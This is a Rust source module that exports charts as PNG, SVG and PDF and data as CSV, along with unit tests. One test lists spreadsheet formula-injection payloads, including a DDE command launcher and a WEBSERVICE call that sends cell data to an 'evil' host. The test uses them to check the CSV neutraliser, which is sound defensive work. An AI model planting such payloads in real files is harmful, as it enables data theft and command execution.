//! Exports: a chart as PNG (a window capture cropped to the chart, or an offscreen rendering at
//! any size and resolution) or as SVG and PDF (the chart's own drawing as vectors and text), and
//! the visible figures as CSV. Every file is written atomically.

mod pdf;
mod raster;
pub use raster::font_database;
mod svg;
mod svg_text;

use std::borrow::Cow;
use std::path::Path;

use egui::{ColorImage, Rect};
use serde::{Deserialize, Serialize};

use crate::data::query::{Table, bar_chart, line_chart, share_chart};
use crate::data::{Dataset, Filter};
use crate::files::{write_atomically, write_atomically_with};
use crate::l10n::Lang;
use crate::l10n::{TableRow, bar_words, line_words, share_words};
use crate::ui::{Tab, ThemeChoice, ViewContext};

/// Why an export failed; [`crate::l10n::export_error_text`] puts it into words.
#[derive(Debug)]
pub enum ExportError {
    /// Writing the file failed.
    Write {
        /// The target.
        path: std::path::PathBuf,
        /// What the system said.
        source: std::io::Error,
    },
    /// Rendering failed; the renderer's words.
    Render(String),
    /// The renderer stopped (panicked) while drawing.
    RendererStopped,
    /// Encoding the PNG failed; the encoder's words.
    Encode(String),
    /// The captured image holds nothing.
    EmptyImage,
}

/// The chart views that can be exported.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum ChartView {
    /// Line chart over time.
    OverTime,
    /// Bar chart for one year.
    Compare,
    /// Industry shares.
    Shares,
}

impl ChartView {
    /// The tab showing this view.
    pub(crate) fn tab(self) -> Tab {
        match self {
            ChartView::OverTime => Tab::OverTime,
            ChartView::Compare => Tab::Compare,
            ChartView::Shares => Tab::Shares,
        }
    }

    /// The view of a tab, for chart tabs.
    pub(crate) fn of_tab(tab: Tab) -> Option<ChartView> {
        match tab {
            Tab::OverTime => Some(ChartView::OverTime),
            Tab::Compare => Some(ChartView::Compare),
            Tab::Shares => Some(ChartView::Shares),
            Tab::Table | Tab::Sources => None,
        }
    }

    /// The name used on the command line.
    pub(crate) fn id(self) -> &'static str {
        match self {
            ChartView::OverTime => "over-time",
            ChartView::Compare => "compare",
            ChartView::Shares => "shares",
        }
    }
}

/// The table a view shows, as the Table tab and the CSV export list it.
pub fn view_table(d: &Dataset, f: &Filter, view: ChartView) -> Table {
    match view {
        ChartView::OverTime => line_chart(d, f).table(),
        ChartView::Compare => bar_chart(d, f).table(),
        ChartView::Shares => share_chart(d, f).table(),
    }
}

/// A file name that says what the picture shows: `jinhua-exports-2020-2025.png`.
pub(crate) fn suggested_name(d: &Dataset, f: &Filter, view: ChartView, extension: &str) -> String {
    let mut parts: Vec<String> = Vec::new();
    let entities: Vec<&str> = d.entities.iter().filter(|e| f.entities.contains(&e.id)).map(|e| e.id.as_str()).collect();
    match entities.as_slice() {
        [] => {}
        [a] => parts.push((*a).to_string()),
        [a, b] => parts.push(format!("{a}-{b}")),
        [a, ..] => parts.push(format!("{a}-and-{}-more", entities.len() - 1)),
    }
    if view == ChartView::Shares {
        parts.push("industry-shares".into());
    } else {
        let metrics: Vec<&str> =
            d.metrics.iter().filter(|m| f.metrics.contains(&m.id)).map(|m| m.id.as_str()).collect();
        match metrics.as_slice() {
            [] => {}
            [a] => parts.push(a.replace('_', "-")),
            [a, ..] => parts.push(format!("{}-and-{}-more", a.replace('_', "-"), metrics.len() - 1)),
        }
    }
    let table = view_table(d, f, view);
    let years = table.refs.iter().map(|r| d.observations[r.observation as usize].cell.time.year());
    if view == ChartView::Compare {
        if let Some(year) = bar_chart(d, f).year {
            parts.push(year.to_string());
        }
    } else if let (Some(first), Some(last)) = (years.clone().min(), years.max()) {
        parts.push(if first == last { first.to_string() } else { format!("{first}-{last}") });
    }
    let stem: String = parts
        .join("-")
        .chars()
        .map(|c| if c.is_alphanumeric() || c == '-' { c } else { '-' })
        .collect::<String>()
        .to_lowercase();
    let stem = if stem.is_empty() { "chart".to_string() } else { stem };
    format!("{stem}.{extension}")
}

/// The screen rectangle `rect` (points) as pixel bounds inside an image of `size` pixels at
/// `pixels_per_point`, clamped to the image (`ColorImage::region` panics outside it).
pub(crate) fn crop_pixels(rect: Rect, pixels_per_point: f32, size: [usize; 2]) -> Option<([usize; 2], [usize; 2])> {
    let clamp = |v: f32, max: usize| (v.max(0.0).round() as usize).min(max);
    let (x0, x1) = (clamp(rect.min.x * pixels_per_point, size[0]), clamp(rect.max.x * pixels_per_point, size[0]));
    let (y0, y1) = (clamp(rect.min.y * pixels_per_point, size[1]), clamp(rect.max.y * pixels_per_point, size[1]));
    (x1 > x0 && y1 > y0 && rect.is_finite()).then(|| ([x0, y0], [x1 - x0, y1 - y0]))
}

/// Crops a window capture to a rectangle in points.
pub(crate) fn crop(image: &ColorImage, rect: Rect, pixels_per_point: f32) -> Result<ColorImage, ExportError> {
    let (min, size) = crop_pixels(rect, pixels_per_point, image.size).ok_or(ExportError::EmptyImage)?;
    Ok(image.region_by_pixels(min, size))
}

/// Encodes an egui image as PNG bytes.
pub(crate) fn encode_png(image: &ColorImage) -> Result<Vec<u8>, ExportError> {
    let [w, h] = image.size;
    if w == 0 || h == 0 {
        return Err(ExportError::EmptyImage);
    }
    let rgba: Vec<u8> = image.pixels.iter().flat_map(|c| c.to_srgba_unmultiplied()).collect();
    let buffer = image::RgbaImage::from_raw(w as u32, h as u32, rgba).ok_or(ExportError::EmptyImage)?;
    let mut bytes = Vec::new();
    buffer
        .write_to(&mut std::io::Cursor::new(&mut bytes), image::ImageFormat::Png)
        .map_err(|e| ExportError::Encode(e.to_string()))?;
    Ok(bytes)
}

/// Writes bytes atomically, naming the file in the error.
pub fn save(path: &Path, bytes: &[u8]) -> Result<(), ExportError> {
    write_atomically(path, bytes).map_err(|source| ExportError::Write { path: path.to_path_buf(), source })
}

/// Makes a CSV cell safe to open in a spreadsheet: text starting with `=`, `+`, `-`, `@`, tab
/// or carriage return would be run as a formula, so it gets a leading apostrophe (OWASP).
pub(crate) fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The header of the data export.
pub(crate) const CSV_HEADER: [&str; 10] =
    ["entity", "metric", "year", "period", "value", "unit", "derived", "trust", "source_title", "source_url"];

/// A value as a spreadsheet should read it: the shortest decimal of at most 15 significant
/// digits, so that a figure scaled to billions reads `3700`, not the `3700.0000000000005` that
/// the division leaves in the last bit.
fn plain_number(value: f64) -> String {
    format!("{value:.14e}").parse::<f64>().unwrap_or(value).to_string()
}

/// Writes a table as CSV to a file, atomically, one row at a time.
pub fn save_csv(path: &Path, d: &Dataset, table: &Table, lang: Lang) -> Result<(), ExportError> {
    write_atomically_with(path, |w| write_csv(w, (0..table.len()).map(|i| crate::l10n::table_row(d, table, lang, i))))
        .map_err(|source| ExportError::Write { path: path.to_path_buf(), source })
}

fn write_csv(out: impl std::io::Write, rows: impl Iterator<Item = TableRow>) -> std::io::Result<()> {
    let mut writer = csv::Writer::from_writer(out);
    writer.write_record(CSV_HEADER)?;
    for r in rows {
        let value = r.value.map(plain_number).unwrap_or_default();
        let time = r.time.to_string();
        let derived = if r.derived { "yes" } else { "no" };
        let trust = r.trust.map_or("", |t| t.as_str());
        let record = [
            neutralise(&r.entity),
            neutralise(&r.metric),
            Cow::Borrowed(time.as_str()),
            neutralise(&r.period),
            Cow::Borrowed(value.as_str()),
            neutralise(&r.unit),
            Cow::Borrowed(derived),
            Cow::Borrowed(trust),
            neutralise(&r.source),
            neutralise(&r.source_url),
        ];
        writer.write_record(record.iter().map(|c| c.as_ref()))?;
    }
    writer.flush()
}

/// How an offscreen rendering looks.
#[derive(Debug, Clone, PartialEq)]
pub struct RenderSpec {
    /// Which chart.
    pub view: ChartView,
    /// Language.
    pub lang: Lang,
    /// Light or dark (System counts as light: a printed page is light).
    pub theme: ThemeChoice,
    /// Layout size in points.
    pub size: [u32; 2],
    /// Pixels per point: 2 or 3 for print.
    pub scale: f32,
}

/// Draws one chart view, as the window does but without controls, tooltips or selection.
pub fn draw_chart(ui: &mut egui::Ui, d: &Dataset, f: &Filter, view: ChartView, lang: Lang) {
    let ctx =
        ViewContext { dataset: d, generation: 0, filter: f, lang, selected: None, interactive: false, controls: false };
    // The commands of an offscreen frame have nobody to act on them.
    let _ = match view {
        ChartView::OverTime => {
            let chart = line_chart(d, f);
            let columns = (ui.available_width() * ui.ctx().pixels_per_point()) as usize;
            let drawn = crate::data::decimate::decimate_chart(&chart, None, columns);
            let words = line_words(d, &chart, lang);
            crate::ui::over_time::show(ui, &ctx, &chart, &words, &crate::ui::over_time::prepare(&chart, drawn))
        }
        ChartView::Compare => {
            let chart = bar_chart(d, f);
            crate::ui::compare::show(ui, &ctx, &chart, &bar_words(d, &chart, lang))
        }
        ChartView::Shares => {
            let chart = share_chart(d, f);
            crate::ui::shares::show(ui, &ctx, &chart, &share_words(d, &chart, lang))
        }
    };
}

/// The shapes of one chart drawn headless, as the window draws it, `spec.size` points wide and
/// high at `spec.scale` pixels a point (text is laid out at that resolution): no window, no
/// display, no graphics driver.
fn chart_shapes(d: &Dataset, f: &Filter, spec: &RenderSpec) -> (Vec<egui::epaint::ClippedShape>, egui::Vec2) {
    let ctx = egui::Context::default();
    crate::ui::fonts::install(&ctx);
    ctx.set_theme(if spec.theme == ThemeChoice::Dark { egui::Theme::Dark } else { egui::Theme::Light });
    let size = egui::vec2(spec.size[0] as f32, spec.size[1] as f32);
    let mut input =
        egui::RawInput { screen_rect: Some(Rect::from_min_size(egui::Pos2::ZERO, size)), ..Default::default() };
    input.viewports.entry(egui::ViewportId::ROOT).or_default().native_pixels_per_point = Some(spec.scale);
    let mut shapes = Vec::new();
    // The first frames install the fonts and measure the layout; the last one is the drawing.
    for _ in 0..4 {
        let mut output = ctx.run_ui(input.clone(), |ui| {
            egui::CentralPanel::default().show(ui, |ui| draw_chart(ui, d, f, spec.view, spec.lang));
        });
        // The font atlas's pixels: a vector drawing has no texture to upload them to.
        output.textures_delta.clear();
        shapes = std::mem::take(&mut output.shapes);
    }
    (shapes, size)
}

/// A chart as an SVG document: the same drawing as the window's, as vectors and text.
pub fn render_svg(d: &Dataset, f: &Filter, spec: &RenderSpec) -> String {
    let (shapes, size) = chart_shapes(d, f, spec);
    svg::svg_of(&shapes, size)
}

/// The SVG of a chart, a drawing that panics an error rather than the end of the program.
fn guarded_svg(d: &Dataset, f: &Filter, spec: &RenderSpec) -> Result<String, ExportError> {
    std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| render_svg(d, f, spec)))
        .map_err(|_| ExportError::RendererStopped)
}

/// A chart as a one-page PDF of its SVG: vectors, embedded fonts, searchable text (or, with
/// `outlines`, text drawn as the outlines of its glyphs).
pub fn render_pdf(d: &Dataset, f: &Filter, spec: &RenderSpec, outlines: bool) -> Result<Vec<u8>, ExportError> {
    let svg = guarded_svg(d, f, spec)?;
    pdf::pdf_of(&svg, crate::l10n::dataset_title(d, spec.lang), raster::font_database(), !outlines)
}

/// An SVG with its text drawn as the outlines of the bundled fonts' glyphs: the same picture in
/// every viewer, whatever fonts it has (its words can then no longer be searched).
pub fn outline_text(svg: &str) -> Result<String, ExportError> {
    use resvg::usvg;
    let options = usvg::Options { fontdb: raster::font_database(), ..usvg::Options::default() };
    let tree = usvg::Tree::from_str(svg, &options).map_err(|e| ExportError::Render(e.to_string()))?;
    Ok(tree.to_string(&usvg::WriteOptions { preserve_text: false, ..usvg::WriteOptions::default() }))
}

/// A chart as pixels, drawn on the CPU from its SVG (`resvg`): needs no graphics driver and no
/// display.
pub fn render_cpu(d: &Dataset, f: &Filter, spec: &RenderSpec) -> Result<ColorImage, ExportError> {
    let svg = guarded_svg(d, f, spec)?;
    raster::rasterize(&svg, spec.scale, raster::font_database())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::data::load_bundled;

    #[test]
    fn exported_values_carry_no_noise_of_the_division_that_scaled_them() {
        assert_eq!(plain_number(3.7e12 / 1e9), "3700");
        assert_eq!(plain_number(2e12 / 1e9), "2000");
        assert_eq!(plain_number(921.3), "921.3");
        assert_eq!(plain_number(0.000_001_25), "0.00000125");
        assert_eq!(plain_number(-17.25), "-17.25");
        assert_eq!(plain_number(123_456_789.123_456), "123456789.123456");
    }

    #[test]
    fn crop_rectangles_scale_with_hidpi_and_stay_inside_the_image() {
        let rect = Rect::from_min_max(egui::pos2(10.0, 20.0), egui::pos2(110.0, 70.0));
        assert_eq!(crop_pixels(rect, 1.0, [800, 600]), Some(([10, 20], [100, 50])));
        assert_eq!(crop_pixels(rect, 2.0, [1600, 1200]), Some(([20, 40], [200, 100])));
        assert_eq!(crop_pixels(rect, 1.5, [1200, 900]), Some(([15, 30], [150, 75])));
        // A rectangle running off the image is clamped, not a panic.
        let off = Rect::from_min_max(egui::pos2(-5.0, 500.0), egui::pos2(900.0, 700.0));
        assert_eq!(crop_pixels(off, 1.0, [800, 600]), Some(([0, 500], [800, 100])));
        assert_eq!(crop_pixels(Rect::NOTHING, 1.0, [800, 600]), None);
        assert_eq!(
            crop_pixels(Rect::from_min_max(egui::pos2(900.0, 0.0), egui::pos2(950.0, 10.0)), 1.0, [800, 600]),
            None
        );
    }

    #[test]
    fn cropping_keeps_the_pixels_of_the_rectangle() {
        let mut image = ColorImage::filled([8, 4], egui::Color32::BLACK);
        image[(4, 2)] = egui::Color32::RED;
        // Points (1, 0.5)–(3, 1.5) at 2 pixels per point are pixels (2, 1)–(6, 3).
        let part = crop(&image, Rect::from_min_max(egui::pos2(1.0, 0.5), egui::pos2(3.0, 1.5)), 2.0).unwrap();
        assert_eq!(part.size, [4, 2]);
        assert_eq!(part[(2, 1)], egui::Color32::RED);
    }

    #[test]
    fn file_names_say_what_the_chart_shows() {
        let d = load_bundled().unwrap().dataset;
        let mut f = Filter::initial(&d);
        f.entities = ["jinhua".to_string()].into();
        assert_eq!(suggested_name(&d, &f, ChartView::OverTime, "png"), "jinhua-exports-2020-2025.png");
        f.entities = ["jinhua", "yiwu", "yongkang"].iter().map(|s| s.to_string()).collect();
        assert_eq!(suggested_name(&d, &f, ChartView::Compare, "png"), "jinhua-and-2-more-exports-2025.png");
        assert_eq!(suggested_name(&d, &f, ChartView::Shares, "csv"), "jinhua-and-2-more-industry-shares-2010-2025.csv");
    }

    #[test]
    fn spreadsheet_formulas_are_neutralised() {
        for payload in [
            "=HYPERLINK(\"http://evil\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "=cmd|' /C calc'!A0",
            "=WEBSERVICE(\"http://evil/?\"&A1)",
        ] {
            assert!(neutralise(payload).starts_with('\''), "{payload:?}");
        }
        assert_eq!(neutralise("Jinhua"), "Jinhua");
        assert_eq!(neutralise("金华"), "金华");
    }

    #[test]
    fn the_csv_file_has_the_header_one_row_per_figure_and_safe_text() {
        // A place whose name a spreadsheet would run as a formula.
        let json = include_str!("../../tests/fixtures/valid/minimal.json").replace("\"Jinhua\"", "\"=HYPERLINK(1)\"");
        let d = crate::data::json::load_json(Path::new("minimal.json"), json.as_bytes()).unwrap().0;
        let f = Filter::initial(&d);
        let table = view_table(&d, &f, ChartView::OverTime);
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("figures.csv");
        save_csv(&path, &d, &table, Lang::EN).unwrap();
        let mut reader = csv::Reader::from_path(&path).unwrap();
        assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), CSV_HEADER);
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), table.len());
        assert!(!records.is_empty());
        assert!(records.iter().all(|r| &r[0] == "'=HYPERLINK(1)"), "{records:?}");
    }

    #[cfg(unix)]
    #[test]
    fn a_failed_write_into_a_read_only_folder_says_why_and_leaves_the_old_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("chart.png");
        std::fs::write(&path, b"old").unwrap();
        let read_only = ReadOnly::new(dir.path());
        let result = save(&path, b"new");
        drop(read_only);
        let err = result.unwrap_err().to_string();
        assert!(err.starts_with(&format!("could not write {}", path.display())), "{err}");
        assert_eq!(std::fs::read(&path).unwrap(), b"old");
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1, "no temporary file left behind");
    }

    #[test]
    fn exporting_into_a_folder_deleted_after_it_was_chosen_says_so_and_creates_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let chosen = dir.path().join("reports");
        std::fs::create_dir(&chosen).unwrap();
        let path = chosen.join("chart.png");
        std::fs::remove_dir(&chosen).unwrap();
        let err = save(&path, b"new").unwrap_err().to_string();
        assert!(err.starts_with(&format!("could not write {}", path.display())), "{err}");
        assert!(err.contains("No such file or directory"), "{err}");
        assert!(!chosen.exists(), "the folder must not be recreated behind the person's back");
    }

    /// Makes a folder read-only for this process, also as root (CI runs as root, and root
    /// ignores permission bits): permission bits for users, the immutable attribute for root.
    #[cfg(unix)]
    struct ReadOnly<'a>(&'a Path);

    #[cfg(unix)]
    impl<'a> ReadOnly<'a> {
        fn new(dir: &'a Path) -> ReadOnly<'a> {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o555)).unwrap();
            if std::fs::write(dir.join(".probe"), b"").is_ok() {
                let _ = std::fs::remove_file(dir.join(".probe"));
                let status = std::process::Command::new("chattr").arg("+i").arg(dir).status();
                assert!(
                    status.is_ok_and(|s| s.success()) && std::fs::write(dir.join(".probe"), b"").is_err(),
                    "cannot make {} read-only as root: chattr +i failed (needs e2fsprogs and a file system with attributes)",
                    dir.display()
                );
            }
            ReadOnly(dir)
        }
    }

    #[cfg(unix)]
    impl Drop for ReadOnly<'_> {
        fn drop(&mut self) {
            use std::os::unix::fs::PermissionsExt;
            let _ = std::process::Command::new("chattr").arg("-i").arg(self.0).status();
            let _ = std::fs::set_permissions(self.0, std::fs::Permissions::from_mode(0o755));
        }
    }
}
